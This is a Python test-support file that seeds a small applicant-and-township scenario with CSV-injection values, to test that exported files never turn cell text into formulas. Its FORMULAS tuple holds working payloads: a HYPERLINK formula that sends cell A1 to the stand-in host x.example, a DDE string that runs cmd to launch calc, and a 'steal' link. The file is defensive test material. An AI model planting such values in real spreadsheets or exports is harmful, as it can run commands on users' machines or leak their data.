"""The tiny scenario with hostile text in the cells an office fills in.

Township names, applicant ids and an office's own column (``university``) hold strings that a
spreadsheet would run as formulas (OWASP CSV injection) or turn into links. Everything we
write from them must keep them as the same text, and nothing may become a formula.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from tests.support.scenario_files import write_tiny

FORMULAS = (
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+2",
)
"""Text a spreadsheet reads as a formula when a cell starts with it."""
LINK = "http://x.example/steal"
"""Text a writer might turn into a hyperlink."""
HOSTILE = (*FORMULAS, LINK)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters OWASP's CSV injection guidance neutralises."""


def _edit(folder: Path, name: str, changes: dict[str, list[str]]) -> None:
    path = folder / name
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    for column, values in changes.items():
        frame[column] = [values[i % len(values)] for i in range(len(frame))]
    frame.to_csv(path, index=False)


def write_hostile(folder: Path) -> Path:
    """The tiny scenario (see :func:`tests.support.scenario_files.write_tiny`) whose four applicants
    are named by :data:`FORMULAS`, whose posts' township names and applicants' universities
    cycle through :data:`HOSTILE`."""
    write_tiny(folder)
    _edit(folder, "posts.csv", {"township_name": list(HOSTILE)})
    _edit(
        folder,
        "applicants.csv",
        {"applicant_id": list(FORMULAS), "university": list(reversed(HOSTILE))},
    )
    return folder
